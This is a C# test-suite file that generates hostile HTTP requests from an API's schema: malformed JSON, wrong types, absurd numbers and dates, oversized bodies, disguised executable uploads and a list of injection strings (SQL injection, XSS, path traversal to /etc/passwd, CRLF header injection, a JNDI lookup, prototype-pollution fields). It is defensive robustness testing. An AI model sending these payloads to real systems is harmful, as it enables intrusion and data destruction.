using System.Globalization;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace Collections.EndToEnd.Tests.Hostile;

/// <summary>Ids of the suite's own tenant that path parameters are filled with, so a request gets past "not found" to validation.</summary>
public sealed record HostileIds(IReadOnlyDictionary<string, string> Values)
{
    public string For(string name) => Values.TryGetValue(name, out var value) ? value : Guid.NewGuid().ToString();
}

/// <summary>
/// One generated request. <see cref="MustReject"/> cases cannot be valid whatever the operation
/// (malformed JSON, a wrong JSON type, an unknown enum value, a wrong content type...): a 2xx is a bug.
/// The others (an injection string in a name, a negative amount...) may be accepted by an operation
/// whose rules allow them; the state check then knows that batch changed state legitimately.
/// </summary>
public sealed record HostileCase(HostileOperation Operation, string Kind, string Detail, bool MustReject, Func<HostileIds, HttpRequestMessage> Build)
{
    public override string ToString() => $"{Operation} [{Kind}: {Detail}]";
}

/// <summary>Generates the hostile requests for an operation from its schema.</summary>
public static partial class HostileCases
{
    public const int HugeStringLength = 1024 * 1024;
    public const int HugeArrayLength = 100_000;
    public const int OversizedBodyBytes = 32 * 1024 * 1024;

    /// <summary>Strings that break naive SQL, HTML, file paths, headers, C strings and format strings.</summary>
    public static readonly string[] Injections =
    [
        "' OR '1'='1",
        "'; DROP TABLE accounts; --",
        "1; SELECT pg_sleep(30)--",
        "\" OR \"\"=\"",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "line\r\nSet-Cookie: injected=1",
        "header\r\nX-Injected: 1",
        "nul\0byte",
        "%s%s%s%n%x%x",
        "{0}{1}{99999}",
        "${jndi:ldap://example.invalid/a}",
        "{{7*7}}",
        "\u202Eevil\u200B\uFEFF",
        "😀🏳️‍🌈\uD83D",
        "\\u0000\\x00",
        "$where: '1 == 1'",
    ];

    /// <summary>Amounts and counts nobody should accept blindly: negative, zero, absurd, and forms JSON numbers should not take.</summary>
    public static readonly (string Json, bool MustReject)[] AbsurdNumbers =
    [
        ("-1", false),
        ("0", false),
        ("-0.0000001", false),
        ("1e30", false),
        ("-1e30", false),
        ("12345678901234567890123456789", false),
        ("99999999999999999999999999999999999999", false),
        ("1.234567890123456789012345678901", false),
        ("1E+400", false),
        ("4.9e-324", false),
        ("\"NaN\"", true),
        ("\"Infinity\"", true),
        ("\"1e30\"", false),
        ("2147483648", false),
        ("-9223372036854775809", false),
    ];

    public static readonly (string Json, bool MustReject)[] BadDates =
    [
        ("\"0000-00-00\"", true),
        ("\"2024-02-30\"", true),
        ("\"2024-13-01T00:00:00Z\"", true),
        ("\"9999-99-99T99:99:99Z\"", true),
        ("\"yesterday\"", true),
        ("\"10000-01-01T00:00:00Z\"", true),
        ("\"0001-01-01T00:00:00Z\"", false),
        ("\"0001-01-01\"", false),
        ("\"9999-12-31T23:59:59.9999999Z\"", false),
        ("\"9999-12-31\"", false),
        ("\"1900-01-01T00:00:00-14:00\"", false),
        ("\"2024-01-01T00:00:00+25:00\"", true),
        ("1700000000", true),
    ];

    public static IEnumerable<HostileCase> For(HostileOperation operation)
    {
        foreach (var parameter in operation.Parameters.Where(p => p.In == "path"))
        {
            foreach (var c in PathCases(operation, parameter))
            {
                yield return c;
            }
        }

        foreach (var parameter in operation.Parameters.Where(p => p.In == "query"))
        {
            foreach (var c in QueryCases(operation, parameter))
            {
                yield return c;
            }
        }

        if (operation.JsonBody is { } schema)
        {
            foreach (var c in BodyCases(operation, schema))
            {
                yield return c;
            }
        }
        else if (operation.MultipartBody is not null)
        {
            foreach (var c in MultipartCases(operation))
            {
                yield return c;
            }
        }
        else if (operation.IsWrite)
        {
            // An operation without a body still must not choke on one it did not ask for.
            yield return new HostileCase(operation, "unexpected body", "malformed JSON", false, ids => Request(operation, Path(operation, ids, real: false), "{\"a\":", "application/json"));
            yield return new HostileCase(operation, "unexpected body", "1 MB of text", false, ids => Request(operation, Path(operation, ids, real: false), new string('x', HugeStringLength), "text/plain"));
        }
    }

    /// <summary>A body far above any limit, to one operation per document: the answer must be 413 (or 400), never a 5xx or a hang.</summary>
    public static HostileCase Oversized(HostileOperation operation) =>
        new(operation, "oversized body", $"{OversizedBodyBytes / 1024 / 1024} MB JSON", true, ids =>
        {
            var padding = new string('A', OversizedBodyBytes);
            return Request(operation, Path(operation, ids, real: true), $"{{\"padding\":\"{padding}\"}}", "application/json");
        });

    private static IEnumerable<HostileCase> PathCases(HostileOperation operation, OperationParameter parameter)
    {
        var typed = SchemaTypes.Format(parameter.Schema) is "uuid" || SchemaTypes.Primary(parameter.Schema) is "integer" or "number";
        var values = Injections.Concat(["not-a-guid", "00000000-0000-0000-0000-000000000000", "-1", "1e30", new string('9', 29), new string('a', 8 * 1024), "%00", "%C0%AE%C0%AE%2F", "%FF%FE"]);
        foreach (var value in values)
        {
            var raw = value.StartsWith('%');
            yield return new HostileCase(operation, "path parameter", $"{parameter.Name}={Excerpt(value)}", typed && value != "00000000-0000-0000-0000-000000000000", ids =>
            {
                var others = new Dictionary<string, string>(ids.Values) { [parameter.Name] = raw ? value : Uri.EscapeDataString(value) };
                return Request(operation, operation.Operation.Fill(others, Guid.NewGuid().ToString()), null, null, keepBody: true, ids);
            });
        }
    }

    private static IEnumerable<HostileCase> QueryCases(HostileOperation operation, OperationParameter parameter)
    {
        var main = SchemaTypes.Primary(parameter.Schema);
        var format = SchemaTypes.Format(parameter.Schema);
        var typed = format is "uuid" or "date-time" or "date" || main is "integer" or "number" or "boolean";
        IEnumerable<(string Value, bool MustReject)> values = Injections.Select(i => (i, typed));
        values = values.Concat([("", false), (new string('q', 8 * 1024), typed), ("-1", false), ("0", false), ("1e30", false), (new string('9', 29), false), ("NaN", typed), ("true", false), ("0001-01-01", false), ("9999-12-31T23:59:59Z", false), ("2024-02-30", typed)]);
        foreach (var (value, mustReject) in values)
        {
            yield return new HostileCase(operation, "query parameter", $"{parameter.Name}={Excerpt(value)}", mustReject, ids =>
            {
                var path = Path(operation, ids, real: !operation.IsWrite || operation.JsonBody is not null);
                return Request(operation, $"{path}?{Uri.EscapeDataString(parameter.Name)}={Uri.EscapeDataString(value)}", null, null, keepBody: true, ids);
            });
        }

        yield return new HostileCase(operation, "query parameter", $"{parameter.Name} twice", false, ids =>
            Request(operation, $"{Path(operation, ids, real: !operation.IsWrite)}?{parameter.Name}=1&{parameter.Name}=x", null, null, keepBody: true, ids));
    }

    private static IEnumerable<HostileCase> BodyCases(HostileOperation operation, JsonElement schema)
    {
        var shape = SchemaTypes.Primary(operation.Resolve(schema));
        var baseline = HostileSurface.Example(operation, schema) ?? new JsonObject();
        var json = baseline.ToJsonString();

        HostileCase Raw(string kind, string detail, bool mustReject, byte[] bytes, string? contentType) =>
            new(operation, kind, detail, mustReject, ids => RequestBytes(operation, Path(operation, ids, real: true), bytes, contentType));

        HostileCase Text(string kind, string detail, bool mustReject, string body, string? contentType = "application/json") =>
            Raw(kind, detail, mustReject, Encoding.UTF8.GetBytes(body), contentType);

        foreach (var malformed in new[] { "{", "{\"a\":", "[", "nul", "{'a':1}", "{\"a\":1,}", "{\"a\" 1}", "\"unterminated", "{}{}", "\u0000", "{\"a\":01}", "{\"a\":.5}", "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":\"\\uD800\"}", "{\"a\":\"\\x41\"}", new string('[', 10_000), "{/*comment*/}" })
        {
            yield return Text("malformed JSON", Excerpt(malformed), malformed is not ("{\"a\":\"\\uD800\"}" or "{/*comment*/}"), malformed);
        }

        var truncated = json.Length > 2 ? json[..(json.Length / 2)] : "{";
        yield return Text("malformed JSON", "truncated body", true, truncated);

        foreach (var contentType in new[] { "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream", "image/png" })
        {
            yield return Text("wrong content type", contentType, true, json, contentType);
        }

        yield return Text("wrong content type", "none", true, json, null);
        yield return Text("wrong content type", "JSON with a bogus charset", false, json, "application/json; charset=ebcdic-xx");
        yield return Text("empty body", "application/json", operation.BodyRequired, "");

        if (shape == "object")
        {
            foreach (var wrong in new[] { "[]", "\"text\"", "42", "true", "null" })
            {
                yield return Text("wrong body type", wrong, wrong != "null" || operation.BodyRequired, wrong);
            }

            yield return Text("missing fields", "{}", false, "{}");
        }

        var invalidUtf8 = Encoding.UTF8.GetBytes(json).ToList();
        var quote = json.IndexOf(":\"", StringComparison.Ordinal);
        byte[] badBytes = [0xFF, 0xFE, 0xC0, 0xAF, 0xED, 0xA0, 0x80];
        if (quote >= 0)
        {
            invalidUtf8.InsertRange(Encoding.UTF8.GetByteCount(json[..(quote + 2)]), badBytes);
        }
        else
        {
            invalidUtf8.InsertRange(0, badBytes);
        }

        yield return Raw("invalid UTF-8", "bytes FF FE C0 AF ED A0 80 in a string", true, [.. invalidUtf8], "application/json");
        yield return Raw("invalid UTF-8", "UTF-16 body declared as UTF-8", true, Encoding.Unicode.GetBytes(json), "application/json");

        if (baseline is JsonObject)
        {
            yield return Mutated(operation, baseline, "extra field", "unknown property", false, root => ((JsonObject)root)["unknownField" + Guid.NewGuid().ToString("N")[..6]] = "x");
            yield return Mutated(operation, baseline, "extra field", "__proto__ / $type", false, root =>
            {
                ((JsonObject)root)["__proto__"] = new JsonObject { ["admin"] = true };
                ((JsonObject)root)["$type"] = "System.Diagnostics.Process";
            });
            yield return Text("extra field", "duplicate property", false, DuplicateFirstProperty(json));
        }

        foreach (var (path, fieldSchema, required) in Fields(operation, schema, "", 0))
        {
            foreach (var c in FieldCases(operation, baseline, path, fieldSchema, required))
            {
                yield return c;
            }
        }
    }

    private static IEnumerable<HostileCase> FieldCases(HostileOperation operation, JsonNode baseline, string path, JsonElement schema, bool required)
    {
        var main = SchemaTypes.Primary(schema);
        var format = SchemaTypes.Format(schema);
        var hasEnum = schema.ValueKind == JsonValueKind.Object && schema.TryGetProperty("enum", out _);

        HostileCase Set(string kind, string detail, bool mustReject, Func<JsonNode?> value) =>
            Mutated(operation, baseline, kind, $"{path}: {detail}", mustReject, root => Replace(root, path, value()));

        yield return Mutated(operation, baseline, required ? "missing required field" : "missing field", path, false, root => Remove(root, path));
        yield return Set("null", "null", false, () => null);

        // Wrong JSON types: the serializer refuses them whatever the operation's rules.
        var wrongs = main switch
        {
            "string" => new[] { "12345", "true", "{}", "[\"a\"]" },
            "number" or "integer" => ["\"not-a-number\"", "true", "{}", "[1]"],
            "boolean" => ["\"yes\"", "1", "{}", "[]"],
            "object" => ["\"text\"", "1", "[]", "true"],
            "array" => ["\"text\"", "1", "{}", "true"],
            _ => [],
        };
        foreach (var wrong in wrongs)
        {
            yield return Set("wrong type", $"{main} given {wrong}", true, () => JsonNode.Parse(wrong));
        }

        if (main == "integer")
        {
            yield return Set("wrong type", "integer given 1.5", true, () => JsonNode.Parse("1.5"));
        }

        if (hasEnum)
        {
            yield return Set("unknown enum value", "NotAValue", true, () => JsonValue.Create("NotAValue"));
        }

        if (main == "string" && format is null && !hasEnum)
        {
            yield return Set("huge string", "1 MB", false, () => JsonValue.Create(new string('x', HugeStringLength)));
            yield return Set("empty string", "\"\"", false, () => JsonValue.Create(""));
            yield return Set("whitespace string", "\"   \"", false, () => JsonValue.Create("   \t\n"));
            foreach (var injection in Injections)
            {
                yield return Set("injection", Excerpt(injection), false, () => JsonValue.Create(injection));
            }
        }

        if (main == "string" && format == "uuid")
        {
            yield return Set("malformed id", "not-a-guid", true, () => JsonValue.Create("not-a-guid"));
            yield return Set("malformed id", "empty guid", false, () => JsonValue.Create(Guid.Empty.ToString()));
            yield return Set("injection", Excerpt(Injections[0]), true, () => JsonValue.Create(Injections[0]));
        }

        if (main == "string" && format is "date-time" or "date")
        {
            foreach (var (date, mustReject) in BadDates)
            {
                yield return Set("bad date", date, mustReject, () => JsonNode.Parse(date));
            }
        }

        if (main is "number" or "integer")
        {
            foreach (var (number, mustReject) in AbsurdNumbers)
            {
                // JSON numbers out of the field's range are refused by the serializer: a 4xx, which is all that is asserted.
                yield return Mutated(operation, baseline, "absurd number", $"{path}: {number}", mustReject, root => Replace(root, path, JsonNode.Parse(number)), rawNumber: number);
            }
        }

        if (main == "array")
        {
            yield return Set("huge array", $"{HugeArrayLength} items", false, () =>
            {
                var item = schema.TryGetProperty("items", out var items) ? HostileSurface.Example(operation, items) : null;
                var array = new JsonArray();
                for (var i = 0; i < HugeArrayLength; i++)
                {
                    array.Add(item is JsonValue ? item.DeepClone() : new JsonObject());
                }

                return array;
            });
            yield return Set("empty array", "[]", false, () => new JsonArray());
            yield return Set("array of nulls", "[null, null]", false, () => new JsonArray(null, null));
        }
    }

    private static IEnumerable<HostileCase> MultipartCases(HostileOperation operation)
    {
        HostileCase Multipart(string detail, bool mustReject, Func<MultipartFormDataContent> content) =>
            new(operation, "file upload", detail, mustReject, ids =>
            {
                var request = new HttpRequestMessage(new HttpMethod(operation.Method), Path(operation, ids, real: true)) { Content = content() };
                return request;
            });

        static ByteArrayContent File(byte[] bytes, string mediaType)
        {
            var file = new ByteArrayContent(bytes);
            file.Headers.ContentType = MediaTypeHeaderValue.Parse(mediaType);
            return file;
        }

        yield return Multipart("oversized file (32 MB)", true, () => new MultipartFormDataContent { { File(new byte[OversizedBodyBytes], "application/pdf"), "file", "big.pdf" } });
        yield return Multipart("empty file", false, () => new MultipartFormDataContent { { File([], "application/pdf"), "file", "empty.pdf" } });
        yield return Multipart("executable declared as PDF", false, () => new MultipartFormDataContent { { File("MZ\u0090\0\u0003"u8.ToArray(), "application/pdf"), "file", "invoice.pdf" } });
        yield return Multipart("executable content type", false, () => new MultipartFormDataContent { { File("MZ"u8.ToArray(), "application/x-msdownload"), "file", "run.exe" } });
        yield return Multipart("path traversal file name", false, () => new MultipartFormDataContent { { File("%PDF-1.4\n"u8.ToArray(), "application/pdf"), "file", "../../../../etc/passwd" } });
        yield return Multipart("encoded CRLF and null in file name", false, () => new MultipartFormDataContent { { File("%PDF-1.4\n"u8.ToArray(), "application/pdf"), "file", "a%0d%0ab%00.pdf" } });
        yield return Multipart("no file part", true, () => new MultipartFormDataContent { { new StringContent("x"), "note" } });
        yield return Multipart("wrong part name", false, () => new MultipartFormDataContent { { File("%PDF-1.4\n"u8.ToArray(), "application/pdf"), "notTheFile", "a.pdf" } });
        foreach (var injection in Injections)
        {
            yield return Multipart($"injection in fields: {Excerpt(injection)}", false, () => new MultipartFormDataContent
            {
                { File("%PDF-1.4\n"u8.ToArray(), "application/pdf"), "file", "a.pdf" },
                { new StringContent(injection), "kind" },
                { new StringContent(injection), "description" },
            });
        }

        yield return new HostileCase(operation, "file upload", "JSON instead of multipart", true, ids => Request(operation, Path(operation, ids, real: true), "{}", "application/json"));
        yield return new HostileCase(operation, "file upload", "multipart without boundary", true, ids => Request(operation, Path(operation, ids, real: true), "--x\r\n\r\n", "multipart/form-data"));
        yield return new HostileCase(operation, "file upload", "truncated multipart", true, ids => Request(operation, Path(operation, ids, real: true), "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n\r\n%PDF", "multipart/form-data; boundary=b"));
    }

    /// <summary>The body's fields as paths ("consumer.firstName", "lines.0.amount"), three levels deep.</summary>
    private static IEnumerable<(string Path, JsonElement Schema, bool Required)> Fields(HostileOperation operation, JsonElement schema, string prefix, int depth)
    {
        schema = operation.Resolve(schema);
        if (depth > 3 || schema.ValueKind != JsonValueKind.Object)
        {
            yield break;
        }

        var main = SchemaTypes.Primary(schema);
        if (main == "object" && schema.TryGetProperty("properties", out var properties))
        {
            var required = schema.TryGetProperty("required", out var r) ? r.EnumerateArray().Select(x => x.GetString()).ToHashSet() : [];
            foreach (var property in properties.EnumerateObject())
            {
                var path = prefix.Length == 0 ? property.Name : $"{prefix}.{property.Name}";
                var resolved = operation.Resolve(property.Value);
                yield return (path, resolved, required.Contains(property.Name));
                foreach (var nested in Fields(operation, resolved, path, depth + 1))
                {
                    yield return nested;
                }
            }
        }
        else if (main == "array" && schema.TryGetProperty("items", out var items) && prefix.Length > 0)
        {
            foreach (var nested in Fields(operation, items, $"{prefix}.0", depth + 1))
            {
                yield return nested;
            }
        }
    }

    private static HostileCase Mutated(HostileOperation operation, JsonNode baseline, string kind, string detail, bool mustReject, Action<JsonNode> mutate, string? rawNumber = null) =>
        new(operation, kind, detail, mustReject, ids =>
        {
            var root = baseline.DeepClone();
            string body;
            if (rawNumber is not null)
            {
                // Numbers JsonNode cannot hold (1e400, 38 digits) are spliced into the text.
                const string marker = "\"__RAW_NUMBER__\"";
                var pathOnly = detail[..detail.IndexOf(':', StringComparison.Ordinal)];
                Replace(root, pathOnly, JsonValue.Create("__RAW_NUMBER__"));
                body = root.ToJsonString().Replace(marker, rawNumber, StringComparison.Ordinal);
            }
            else
            {
                mutate(root);
                body = root.ToJsonString();
            }

            return Request(operation, Path(operation, ids, real: true), body, "application/json");
        });

    private static void Replace(JsonNode root, string path, JsonNode? value)
    {
        var (parent, last) = Navigate(root, path);
        switch (parent)
        {
            case JsonObject obj:
                obj[last] = value;
                break;
            case JsonArray array when int.TryParse(last, CultureInfo.InvariantCulture, out var index) && index < array.Count:
                array[index] = value;
                break;
        }
    }

    private static void Remove(JsonNode root, string path)
    {
        var (parent, last) = Navigate(root, path);
        if (parent is JsonObject obj)
        {
            obj.Remove(last);
        }
    }

    private static (JsonNode? Parent, string Last) Navigate(JsonNode root, string path)
    {
        var segments = path.Split('.');
        JsonNode? current = root;
        foreach (var segment in segments[..^1])
        {
            current = current switch
            {
                JsonObject obj => obj[segment],
                JsonArray array when int.TryParse(segment, CultureInfo.InvariantCulture, out var i) && i < array.Count => array[i],
                _ => null,
            };
        }

        return (current, segments[^1]);
    }

    private static string DuplicateFirstProperty(string json)
    {
        var match = FirstProperty().Match(json);
        return match.Success ? json.Insert(1, $"{match.Value}\"x\",") : json;
    }

    [GeneratedRegex("(?<=^\\{)\"[^\"]+\":")]
    private static partial Regex FirstProperty();

    /// <summary>The operation's path with its parameters filled: the suite's real ids, or fresh random ones for writes whose valid form must not run.</summary>
    private static string Path(HostileOperation operation, HostileIds ids, bool real) =>
        operation.Operation.Fill(real ? ids.Values : new Dictionary<string, string>(), Guid.NewGuid().ToString());

    private static HttpRequestMessage Request(HostileOperation operation, string path, string? body, string? contentType, bool keepBody = false, HostileIds? ids = null) =>
        RequestBytes(operation, path, body is null ? null : Encoding.UTF8.GetBytes(body), contentType, keepBody, ids);

    private static HttpRequestMessage RequestBytes(HostileOperation operation, string path, byte[]? body, string? contentType, bool keepBody = false, HostileIds? ids = null)
    {
        var request = new HttpRequestMessage(new HttpMethod(operation.Method), path);
        if (body is not null)
        {
            request.Content = new ByteArrayContent(body);
            if (contentType is not null)
            {
                request.Content.Headers.TryAddWithoutValidation("Content-Type", contentType);
            }
        }
        else if (keepBody && operation.JsonBody is { } schema && ids is not null)
        {
            // Path and query cases keep a well-formed body so only the parameter is hostile.
            var json = HostileSurface.Example(operation, schema)?.ToJsonString() ?? "{}";
            request.Content = new StringContent(json, Encoding.UTF8, "application/json");
        }

        return request;
    }

    public static string Excerpt(string value, int length = 40)
    {
        var printable = new StringBuilder();
        foreach (var c in value.Length > length ? value[..length] : value)
        {
            printable.Append(char.IsControl(c) ? $"\\x{(int)c:X2}" : c);
        }

        return value.Length > length ? $"{printable}… ({value.Length} chars)" : printable.ToString();
    }
}
